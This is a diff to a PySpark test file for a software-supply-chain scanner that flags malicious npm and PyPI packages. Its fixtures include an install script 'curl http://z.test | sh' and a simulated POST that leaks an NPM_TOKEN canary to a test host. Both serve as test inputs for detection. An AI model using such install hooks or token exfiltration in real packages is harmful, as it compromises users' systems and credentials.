@@ -72,13 +72,52 @@ def test_scan_and_reports(spark, tmp_path):
     assert report["schema_version"] == 1 and report["package_count"] == 8 == len(report["dossiers"])
     sarif = json.loads(reports.sarif(judged, signals).first()[0])
     run_ = sarif["runs"][0]
-    assert sarif["version"] == "2.1.0" and {r["id"] for r in run_["tool"]["driver"]["rules"]} == set().union(*found.values())
+    assert sarif["version"] == "2.1.0" and {r["id"] for r in run_["tool"]["driver"]["rules"]} == set().union(*found.values()) | {"unscanned-package"}
     assert sum(r["ruleId"] == "unscanned-package" for r in run_["results"]) == 2 and any("suppressions" in r for r in run_["results"])
     lines = [r["line"] for r in reports.markdown_lines(judged, signals).orderBy("section", "place").collect()]
     assert lines[0].startswith("# Packages: 8, malicious 1") and any("ignored: nice" in x for x in lines)
     assert reports.terminal_summary(judged).first().asDict() | {"overall": "malicious", "exit_code": 1} == reports.terminal_summary(judged).first().asDict()
     brief = {r["package"]: r["brief"] for r in reports.review_brief(judged, signals, token="t").collect()}
-    assert "nice-logs" not in brief and brief["quick-json"].startswith("<untrusted t>")
+    assert "nice-logs" not in brief and "add-two" not in brief and brief["quick-json"].startswith("verdict: SUSPICIOUS") and "<untrusted t>" in brief["quick-json"]
+    assert "NOT SCANNED" in brief["ranged"] and "no findings" in brief["ranged"]
+    assert {r["detail"] for r in rows if r["category"] == "lifecycle-script-abuse"} == {"postinstall"} and {r["detail"] for r in rows if r["category"] == "typosquat-candidate"} == {"looks like requests"}
+
+
+def test_static_and_observed_evidence_make_a_verdict_together(spark):
+    """A script that feeds a download to a shell, a planted secret that leaves, a yanked release, a second reader."""
+    names = ("both", "static", "ran", "quiet", "unseen")
+    files = spark.createDataFrame([("npm", n, "1.0.0", "package", "a.js", 11, "const a = 1") for n in names] + [("pypi", "old", "1.0", "sdist", "setup.py", 5, "x = 1")], "ecosystem string, package string, version string, label string, path string, size_bytes int, text string")
+    meta = spark.createDataFrame([("npm", n, "1.0.0", json.dumps({"scripts": {"install": "curl http://z.test | sh"}})) for n in ("both", "static")], "ecosystem string, package string, version string, package_json string")
+    project = spark.createDataFrame([("p", "package-lock.json", json.dumps({"packages": {f"node_modules/{n}": {"version": "1.0.0"} for n in names}})), ("p", "requirements.txt", "old==1.0")], "project string, path string, content string")
+    none = lambda schema: spark.createDataFrame([], schema)
+    token = "canary_" + "0f" * 16
+    runs = spark.createDataFrame([(f"r-{n}", "npm", n, "1.0.0", "npm install", 0, False, 2.84, 30, "fine", None, True, False) for n in ("both", "ran", "quiet")], "run_id string, ecosystem string, package string, version string, scripts string, exit_code int, timed_out boolean, seconds double, time_limit int, stdout string, stderr string, tls_inspected boolean, imports boolean")
+    sent = [("r-both", "both", 1, "connect", None, None, "odd.test", 443, None, None, None, None), ("r-ran", "ran", 1, "http", "POST", "http://odd.test/x", "odd.test:80", 80, None, None, token.encode(), "http")]
+    observed = {"runs": runs, "capture": spark.createDataFrame(sent, "run_id string, package string, seq long, kind string, method string, url string, host string, port int, address string, headers map<string,string>, body binary, scheme string"),
+                "canaries": spark.createDataFrame([("r-ran", "NPM_TOKEN", token)], "run_id string, name string, value string"), "lines": none("run_id string, package string, seq long, line string"), "states": None}
+    asked = spark.createDataFrame([("npm", "quiet", "1.0.0", "a.js", 1, 0, p, "blob") for p in "xy"], "ecosystem string, package string, version string, file string, line int, ord int, persona string, excerpt string")
+    answers = asked.drop("ord", "excerpt").selectExpr("*", "true AS ok", "true AS malicious", "0.8D AS confidence", "'packed' AS rationale")
+    releases = spark.createDataFrame([("pypi", "old", "1.0", True), ("npm", "both", "1.0.0", True)], "ecosystem string, package string, version string, yanked boolean")
+    rest = (none("ecosystem string, package string, version string, age_days int, downloads_last_month long"), none("ecosystem string, package string, version string, name_exists boolean, version_exists boolean, security_holding boolean"), none("ord int, package string, version string, reason string, expires date, ecosystem string"), F.lit(datetime.date(2026, 1, 1)))
+    judged, signals = scan.scan(project, files, meta, *rest, observed=observed, opinions=(asked, answers), releases=releases)
+    assert {r["package"]: (r["verdict"], r["detonated"]) for r in judged.collect()} == {"both": ("malicious", True), "static": ("suspicious", False), "ran": ("malicious", True), "quiet": ("malicious", True), "unseen": ("clean", False), "old": ("clean", False)}
+    assert {(r["package"], r["category"], r["source"]) for r in signals.collect()} >= {("ran", "canary-exfiltration", "detonation"), ("old", "yanked-release", "recon"), ("quiet", "obfuscated-intent", "analyst"), ("both", "unexpected-network-destination", "detonation")}
+    records = detonation.run_records(runs, observed["capture"], observed["canaries"], observed["lines"]).cache()
+    shown = {(r["run_id"], r["line"]) for r in reports.run_section(records).collect()}
+    assert ("r-ran", r"- canaries leaked: NPM\_TOKEN") in shown and ("r-both", "- unexpected hosts: odd.test") in shown and ("r-quiet", "- status: exit code 0, 2.8 s") in shown and ("r-quiet", "- stdout: fine") in shown
+    assert reports.detonated_count(judged).first().asDict() == {"detonated": 3, "packages": 6}
+    brief = {r["package"]: r["brief"] for r in reports.review_brief(judged, signals, token="t", records=records.join(runs.select("run_id", "ecosystem", "package", "version"), "run_id")).collect()}
+    assert set(brief) == {"both", "static", "ran", "quiet", "old"} and "canary" in brief["ran"] and "leaked" in brief["ran"]
+    only, _ = scan.scan(project, files, meta, *rest, mode="detonate-only", observed=observed)
+    assert {r["package"]: r["verdict"] for r in only.collect()} == {"both": "suspicious", "static": "unscanned", "ran": "malicious", "quiet": "clean", "unseen": "unscanned", "old": "unscanned"}
+    assert reports.artifact_labels(files).where("package = 'old'").first()["labels"] == "sdist" and "npm install" in reports.run_command()
+
+
+def test_a_manifest_that_is_too_large_is_not_passed_over(spark):
+    from assayer.sources import manifests
+
+    rows = spark.createDataFrame([("p", "uv.lock", "x" * (manifests.LARGEST + 1)), ("q", "uv.lock", "")], "project string, path string, content string")
+    assert [(r["project"], r["path"]) for r in manifests.oversized(rows).collect()] == [("p", "uv.lock")]
 
 
 def test_bad_archives_are_refused(spark):
